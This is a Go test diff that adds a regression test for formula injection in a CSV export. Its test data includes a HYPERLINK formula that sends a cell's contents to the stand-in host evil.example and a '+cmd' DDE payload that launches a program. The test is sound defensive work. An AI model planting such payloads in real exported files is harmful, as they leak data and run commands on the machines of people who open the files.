@@ -85,3 +85,36 @@ func TestExportRoundTrips(t *testing.T) {
 		}
 	})
 }
+
+// Issue 12: a cell that is a spreadsheet formula was exported as is.
+func TestExportNeutralizesFormulas(t *testing.T) {
+	e := newEnv(t)
+	ty := mustType(t, "customers")
+	const evil = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
+	e.apply(t, ty, mustPrepare(t, ty, obj{"id": "cus_evil", "object": "customer", "created": 1_690_000_000,
+		"name": evil, "description": "+cmd|' /C calc'!A0", "balance": -500, "livemode": false, "metadata": obj{}}, 1, false))
+	read := func(o ExportOptions) map[string]string {
+		t.Helper()
+		var buf bytes.Buffer
+		if _, err := e.w.Export(context.Background(), &buf, o); err != nil {
+			t.Fatal(err)
+		}
+		recs, err := csv.NewReader(&buf).ReadAll()
+		if err != nil || len(recs) != 2 {
+			t.Fatalf("%d records, %v", len(recs), err)
+		}
+		cells := map[string]string{}
+		for i, h := range recs[0] {
+			cells[h] = recs[1][i]
+		}
+		return cells
+	}
+	got := read(ExportOptions{Type: ty, ConnID: e.connID})
+	if got["name"] != "'"+evil || got["description"] != "'+cmd|' /C calc'!A0" || got["balance"] != "-500" {
+		t.Errorf("guarded: name %q description %q balance %q", got["name"], got["description"], got["balance"])
+	}
+	raw := read(ExportOptions{Type: ty, ConnID: e.connID, RawCells: true})
+	if raw["name"] != evil || raw["description"] != "+cmd|' /C calc'!A0" {
+		t.Errorf("raw: name %q description %q", raw["name"], raw["description"])
+	}
+}
